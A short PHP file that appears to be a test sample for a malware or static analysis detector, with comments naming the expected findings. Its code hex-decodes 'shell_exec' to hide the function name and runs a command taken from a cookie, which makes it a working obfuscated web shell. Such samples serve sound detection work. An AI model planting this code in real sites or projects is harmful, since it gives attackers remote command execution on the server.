<?php
// want: php_request_command_exec php_hidden_function_name
// fold: shell_exec
$f = hex2bin('7368656c6c5f65786563');
echo $f($_COOKIE['k']);
